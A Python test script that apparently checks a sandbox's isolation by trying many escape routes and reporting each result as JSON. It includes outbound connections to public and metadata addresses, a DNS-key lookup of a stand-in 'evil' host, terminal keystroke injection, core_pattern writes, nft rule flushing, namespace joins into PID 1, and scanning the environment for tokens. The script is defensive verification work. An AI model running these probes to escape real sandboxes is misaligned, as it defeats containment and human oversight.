"""Tries every way out of a sandbox that a program without rights has, and prints what came of each, as JSON.

    walls.py HOST_SERVICE_PORT HOST_UNIX_SOCKET HOST_ABSTRACT_NAME
"""

import ctypes
import errno
import fcntl
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time

PORT, UNIX, ABSTRACT = int(sys.argv[1]), sys.argv[2], sys.argv[3]
LIBC = ctypes.CDLL(None, use_errno=True)
SYS_IO_URING_SETUP = 425
SYS_ADD_KEY, SYS_REQUEST_KEY, SYS_KEYCTL = (217, 218, 219) if os.uname().machine == "aarch64" else (248, 249, 250)
SYS_CLONE, SYS_CLONE3 = 220 if os.uname().machine == "aarch64" else 56, 435
CLONE_NEWCGROUP, CLONE_NEWUSER = 0x02000000, 0x10000000
KEYCTL_GET_KEYRING_ID, SESSION_KEYRING = 0, -3
TIOCSTI = 0x5412


def name(error):
    return errno.errorcode.get(error.errno, str(error)) if isinstance(error, OSError) and error.errno else repr(error)


def tried(what):
    start = time.monotonic()
    try:
        outcome = what()
    except socket.timeout:
        outcome = "TIMEOUT"
    except (OSError, subprocess.SubprocessError) as error:
        outcome = name(error)
    return {"outcome": outcome, "seconds": round(time.monotonic() - start, 3)}


def tcp(family, address, say=b""):
    """The program's view: a captured connection is accepted first, and reset when the gateway has refused it."""
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        s.connect(address)
        if say:
            s.sendall(say)
        got = s.recv(1000)
        return "EOF" if not got else got.decode("latin-1")


def udp(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect(address)
        s.send(b"x" * 40)
        return s.recv(100).decode("latin-1")


def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(5)
        s.connect(path)
        return "CONNECTED"


def make(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()
    return "MADE"


def ran(*command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=30)
    return "OK" if done.returncode == 0 else f"exit {done.returncode}: {done.stderr.strip()[:200]}"


def io_uring():
    if LIBC.syscall(SYS_IO_URING_SETUP, 8, ctypes.create_string_buffer(200)) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "MADE"


def called(*arguments):
    if LIBC.syscall(*arguments) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "DONE"


def cloned(*arguments):
    child = LIBC.syscall(*arguments)
    if child < 0:
        raise OSError(ctypes.get_errno(), "")
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "MADE"


def type_into_terminal():
    fcntl.ioctl(0, TIOCSTI, b"x")
    return "TYPED"


def kernel():
    # What is there already: whoever can write it could write anything, and the kernel would run it outside.
    path = "/proc/sys/kernel/core_pattern"
    with open(path) as knob:
        was = knob.read()
    with open(path, "w") as knob:
        knob.write(was)
    return "WRITTEN"


def join(pid):
    if LIBC.setns(os.open(f"/proc/{pid}/ns/net", os.O_RDONLY), 0) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "JOINED"


FOUR, SIX = socket.AF_INET, socket.AF_INET6
hello = b"\x16\x03\x01\x00\x05xxxxx"
print(json.dumps({
    "internet": tried(lambda: tcp(FOUR, ("8.8.8.8", 22))),
    "internet tls": tried(lambda: tcp(FOUR, ("8.8.8.8", 443), hello)),
    "internet http": tried(lambda: tcp(FOUR, ("8.8.8.8", 80), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")),
    "lan": tried(lambda: tcp(FOUR, ("10.99.0.1", 5432))),
    "metadata": tried(lambda: tcp(FOUR, ("169.254.169.254", 80))),
    "ipv6": tried(lambda: tcp(SIX, ("2606:4700:4700::1111", 22))),
    "mapped": tried(lambda: tcp(SIX, ("::ffff:8.8.8.8", 22))),
    "dns over tcp": tried(lambda: tcp(FOUR, ("8.8.8.8", 53))),
    "host loopback": tried(lambda: tcp(FOUR, ("127.0.0.1", PORT))),
    "udp dns": tried(lambda: udp(FOUR, ("8.8.8.8", 53))),
    "udp quic": tried(lambda: udp(FOUR, ("8.8.8.8", 443))),
    "udp ipv6": tried(lambda: udp(SIX, ("2606:4700:4700::1111", 53))),
    "udp lan": tried(lambda: udp(FOUR, ("10.99.0.1", 5432))),
    "host unix socket": tried(lambda: unix(UNIX)),
    "host abstract socket": tried(lambda: unix("\0" + ABSTRACT)),
    "raw": tried(lambda: make(FOUR, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "raw ipv6": tried(lambda: make(SIX, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
    "ping socket": tried(lambda: make(FOUR, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
    "packet": tried(lambda: make(socket.AF_PACKET, socket.SOCK_RAW)),
    "vsock": tried(lambda: make(socket.AF_VSOCK, socket.SOCK_STREAM)),
    "bluetooth": tried(lambda: make(31, socket.SOCK_RAW, 1)),
    "io_uring": tried(io_uring),
    "typing": tried(type_into_terminal),
    "names by a key": tried(lambda: called(SYS_REQUEST_KEY, b"dns_resolver", b"secret.evil.test", b"", 0)),
    "new key": tried(lambda: called(SYS_ADD_KEY, b"user", b"a", b"b", 1, SESSION_KEYRING)),
    "keyring": tried(lambda: called(SYS_KEYCTL, KEYCTL_GET_KEYRING_ID, SESSION_KEYRING, 0)),
    "keys": len(open("/proc/keys").read()) if os.path.exists("/proc/keys") else 0,
    "kernel": tried(kernel),
    "control groups": [
        line.split()[1]
        for line in open("/proc/self/mounts")
        if line.split()[1].startswith("/sys") and not os.statvfs(line.split()[1]).f_flag & os.ST_RDONLY
    ],
    "namespaces of its own": tried(lambda: ran("unshare", "-Urm", "true")),
    "control groups of its own": tried(lambda: ran("unshare", "-UrmC", "sh", "-c", "mount -t cgroup2 none /sys/fs || mount -t cgroup2 none /tmp")),
    "control groups by clone": tried(lambda: cloned(SYS_CLONE, CLONE_NEWUSER | CLONE_NEWCGROUP | signal.SIGCHLD, 0, 0, 0, 0)),
    # struct clone_args: flags first, the signal at its end fifth.
    "control groups by clone3": tried(lambda: cloned(SYS_CLONE3, struct.pack("8Q", CLONE_NEWUSER | CLONE_NEWCGROUP, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)),
    "routes": tried(lambda: ran("ip", "route", "add", "10.0.0.0/8", "dev", "lo")),
    "interfaces": tried(lambda: ran("ip", "link", "add", "out", "type", "dummy")),
    "rules": tried(lambda: ran("nft", "flush", "ruleset")),
    "unmount": tried(lambda: ran("umount", "/etc/resolv.conf")),
    "another namespace": tried(lambda: ran("unshare", "-Urn", "bash", "-c", "ip link set lo up; exec 3<>/dev/tcp/8.8.8.8/22")),
    "first process": tried(lambda: join(1)),
    "parent": tried(lambda: join(os.getppid())),
    "links": sorted(os.listdir("/sys/class/net")) and sorted(line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line),
    "processes": sum(entry.isdigit() for entry in os.listdir("/proc")),
    "capabilities": next(line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")),
    "environment": sorted(name for name in os.environ if "TOKEN" in name or "@" in os.environ[name]),
}))
